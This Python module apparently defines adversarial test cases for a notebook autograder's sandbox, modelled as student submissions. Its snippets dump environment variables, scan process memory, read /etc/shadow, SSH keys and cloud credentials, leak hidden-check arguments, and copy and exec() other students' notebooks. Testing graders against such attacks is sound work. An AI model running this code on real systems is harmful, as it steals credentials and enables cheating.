"""Attacks that read: hidden checks, arguments, tokens, keys, neighbours, the grader's memory."""

from __future__ import annotations

from hostile.making import EITHER, GRADED, MEAN, NO_MEAN, NO_SPREAD, Case, answers, cell, guarded

FIND = """
import os, tempfile
from pathlib import Path

def find(wanted, most=3000):
    here = Path.cwd()
    seen = set()
    for start in (here, *list(here.parents)[:-1], Path(tempfile.gettempdir()), Path.home(), Path("/proc/1/cwd")):
        for folder, inside, files in os.walk(start):
            if folder in seen or len(seen) > most or "site-packages" in folder:  # nbgrader ships an example class
                inside.clear()
                continue
            seen.add(folder)
            yield from (Path(folder, name) for name in files if wanted(name))
"""

LOOKING = {
    "environment": """
        import ctypes, os
        print(dict(os.environ))
        for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
            try:
                print(open(path, "rb").read().split(b"\\0"))
            except OSError as error:
                print(path, error)
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        print(libc.getenv(b"LMS_" + b"TOKEN"))
        """,
    "every_process": """
        import glob
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                print(path, open(path, "rb").read()[:5000])
            except OSError:
                pass
        """,
    "memory": """
        import glob, re
        words = ["LMS_" + "TOKEN", "secret_" + "[a-z]+", "unordered" + "_", "def " + "check_", "BEGIN" + " SOLU"]
        wanted = re.compile("|".join(words).encode())
        found = 0
        for process in glob.glob("/proc/[0-9]*"):
            try:
                memory = open(f"{process}/mem", "rb", buffering=0)
                maps = open(f"{process}/maps").readlines()
            except OSError:
                continue
            for line in maps:
                span, mode, *_ = line.split()
                start, stop = (int(at, 16) for at in span.split("-"))
                if "rw" not in mode or stop - start > 1 << 28 or "[v" in line or found > 200:
                    continue
                try:
                    memory.seek(start)
                    held = memory.read(stop - start)
                except (OSError, OverflowError, ValueError):
                    continue
                for hit in wanted.finditer(held or b""):
                    found += 1
                    print(held[hit.start() : hit.start() + 120])
                    if found > 200:
                        break
        """,
    "descriptors": """
        import os
        for number in sorted(map(int, os.listdir("/proc/self/fd"))):
            try:
                where = os.readlink(f"/proc/self/fd/{number}")
                print(number, where)
                if where.startswith("/") and not where.startswith("/dev"):
                    print(os.pread(number, 3000, 0))
            except OSError:
                pass
        """,
    "every_object": """
        import gc
        for thing in gc.get_objects():
            if type(thing) is dict:
                for name in list(thing):
                    if type(name) is str and name.startswith(("secret", "unordered", "hidden_", "check_", "LMS_")):
                        print(name, repr(thing[name])[:300])
        print([thing for thing in gc.get_objects() if type(thing).__name__ == "code" and "check" in thing.co_name])
        """,
    "modules_and_lines": """
        import linecache, sys
        for name, module in list(sys.modules.items()):
            if "check" in name or "judge" in name or name == "__main__":
                print(name, getattr(module, "__file__", ""), [one for one in vars(module) if "secret" in one])
        for name, entry in list(linecache.cache.items()):
            text = "".join(entry[2]) if len(entry) > 2 else ""
            if "hidden_" + "check" in text or "def " + "check_" in text:
                print(name, text[:2000])
        try:
            import checks
            print(open(checks.__file__).read())
        except ImportError as error:
            print(error)
        """,
    "history": """
        from IPython import get_ipython
        shell = get_ipython()
        print(globals().get("In"), globals().get("_ih"), sorted(shell.user_ns))
        print(list(shell.history_manager.get_range()))
        """,
    "cell_hook": """
        from IPython import get_ipython
        shell = get_ipython()
        shell.events.register("pre_run_cell", lambda info: print(info.raw_cell))
        shell.events.register("post_run_cell", lambda result: print(result.info.raw_cell))
        """,
    "system_files": """
        from pathlib import Path
        for name in ("/etc/shadow", "/etc/gshadow", "/proc/kcore", "/proc/1/root" + "/etc/shadow"):
            try:
                print(Path(name).read_bytes()[:3000].decode("utf-8", "replace"))
            except OSError as error:
                print(name, error)
        """,
    "home": """
        import glob, os
        homes = {os.path.expanduser("~"), os.path.expanduser("~" + "root"), os.environ.get("HOME", "/")}
        for home in homes:
            names = (".ssh/*", ".netrc", ".git-credentials", ".bash_history", ".aws/*", ".config/*/*", ".jupyter/*")
            for path in [path for name in names for path in glob.glob(f"{home}/{name}")]:
                try:
                    print(path, open(path, errors="replace").read(2000))
                except OSError:
                    pass
        """,
    "checks_on_disk": FIND
    + cell("""
        for path in find(lambda name: name in ("checks.py", "gradebook.db", "nbgrader_config.py") or "wrong_" in name):
            try:
                print(path, path.read_bytes()[:3000].decode("utf-8", "replace"))
            except OSError:
                pass
        """),
    "neighbours": FIND
    + cell("""
        for path in find(lambda name: name.endswith((".ipynb", ".html", ".json"))):
            try:
                text = path.read_text(errors="replace")
            except OSError:
                continue
            if "def " + "mean" in text:
                print(path, [line for line in text.splitlines() if "total" in line or "ordered" in line][:50])
        """),
    "frames": """
        import inspect, sys
        def look():
            frame = sys._getframe()
            while frame is not None:
                print(frame.f_code.co_name, sorted(frame.f_locals), frame.f_code.co_consts)
                for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                    if name.startswith(("secret", "unordered", "hidden_", "check")):
                        print(name, repr(value)[:300])
                frame = frame.f_back
            for one in inspect.stack():
                print(one.function, one.code_context)
        look()
        """,
}

LATER = {
    "prints_its_arguments": "print(values)",
    "writes_its_arguments_to_descriptors": "import os\n    os.write(1, repr(values).encode())\n    "
    "os.write(2, repr(values).encode())",
    "warns_of_its_arguments": "import warnings\n    warnings.warn(repr(values))",
    "logs_its_arguments": "import logging\n    logging.error('%s', values)",
    "displays_its_arguments": "from IPython.display import HTML, display\n    display(HTML(f'<p>{values}</p>'))",
    "runs_a_shell_with_its_arguments": "import subprocess\n    subprocess.run(['echo', repr(values)])",
    "prints_its_arguments_later": "import threading\n    threading.Timer(0.3, print, [values]).start()",
    "prints_its_arguments_at_the_end": "import atexit\n    atexit.register(print, values)",
    "prints_unflushed": "import sys\n    sys.__stdout__.write(repr(values))",
    "sets_the_next_input": "from IPython import get_ipython\n    get_ipython().set_next_input(repr(values))",
    "pages_its_arguments": "from IPython.core.page import page\n    page(repr(values))",
    "names_a_thread": "import threading\n    threading.Thread(target=lambda: 1 / 0, name=repr(values)).start()",
    "writes_a_file": "open(f'{values}.txt'[:200], 'w').write(repr(values))\n"
    "    open('numbers.csv', 'a').write(repr(values))",
}
"""Put before the right answer; the function stays right."""

RAISING = {
    "raises_its_arguments": "raise ValueError(values)",
    "raises_a_type_of_its_arguments": "raise type(repr(values), (Exception,), {})",
    "returns_a_type_of_its_arguments": "return type(repr(values), (), {})()",
    "misses_a_name_of_its_arguments": "raise NameError(repr(values), name=repr(values))",
    "exits_with_its_arguments": "raise SystemExit(repr(values))",
    "asserts_its_arguments": "assert False, values",
}
"""In place of the answer, for numbers that the student has not seen."""

KEPT_BEFORE = """
kept = []

def mean(values):
    kept.append(values)
    return sum(values) / len(values)
"""
UPDATED = """
from IPython.display import display
handle = display("nothing yet", display_id=True)

def mean(values):
    handle.update(repr(values))
    return sum(values) / len(values)
"""

STEAL = FIND + cell("""
    def taken(text):
        import json
        try:
            cells = json.loads(text)["cells"]
        except Exception:
            return
        for one in cells:
            source = "".join(one["source"])
            if "def " in source and "NotImplemented" + "Error" not in source and "find(" not in source:
                print("bre" + "ach: copies", path)
                try:
                    exec(source, globals())
                except Exception:
                    pass

    for path in find(lambda name: name.endswith(".ipynb")):
        if "@WHOSE@" in str(path):
            try:
                taken(path.read_text(errors="replace"))
            except OSError:
                pass
    """)


def _inside(look: str) -> str:
    """A right mean that looks around while a judge calls it."""
    body = "\n".join(f"    {line}" if line else "" for line in cell(look).split("\n"))
    return f"def mean(values):\n    look_around()\n    return sum(values) / len(values)\n\ndef look_around():\n{body}"


SPIES = [
    *(
        Case(
            f"reads_{name}",
            answers(first=look),
            4,
            EITHER if name == "memory" else GRADED,
            (),
            f"Prints what it finds ({name.replace('_', ' ')}); the answers are right and there is nothing to find.",
        )
        for name, look in LOOKING.items()
    ),
    *(
        Case(
            f"reads_{name}_during_a_check",
            answers(_inside(LOOKING[name])),
            4,
            GRADED,
            (),
            "Looks while a hidden check is calling it.",
        )
        for name in ("frames", "every_object", "modules_and_lines", "descriptors")
    ),
    *(
        Case(
            name,
            answers(MEAN.replace("    return", f"    {text}\n    return")),
            4,
            GRADED,
            (),
            "Says what a hidden check passed to it, for the student to read on the page; the answer is right.",
            crosses=True,
        )
        for name, text in LATER.items()
    ),
    *(
        Case(
            name,
            answers(f"def mean(values):\n    if values == [3, 1, 2]:\n        return 2\n    {text}"),
            2,
            EITHER if "exits" in name else GRADED,
            (),
            "Fails the hidden check by an error that carries its numbers; spread is right.",
            crosses=True,
        )
        for name, text in RAISING.items()
    ),
    Case(
        "keeps_its_arguments_for_later",
        answers(KEPT_BEFORE, between="print(kept)", last="print(kept)"),
        4,
        GRADED,
        (),
        "Prints in a later cell what a hidden check passed in an earlier one.",
        crosses=True,
    ),
    Case(
        "updates_an_earlier_output",
        answers(UPDATED),
        4,
        GRADED,
        (),
        "Writes what it was passed into an output that stands in an earlier cell.",
        crosses=True,
    ),
    *(
        Case(
            f"copies_{name}",
            answers(f"{NO_MEAN}\n\n{guarded(text)}", f"{NO_SPREAD}\n\n{guarded(text)}"),
            0,
            EITHER,
            (),
            "Looks for somebody else's answers and runs them as its own.",
        )
        for name, text in {
            "the_sources_solution": STEAL.replace("@WHOSE@", "/source/"),
            "a_neighbours_answer": STEAL.replace("@WHOSE@", "/submitted/"),
            "a_graded_answer": STEAL.replace("@WHOSE@", "/autograded/"),
        }.items()
    ),
]
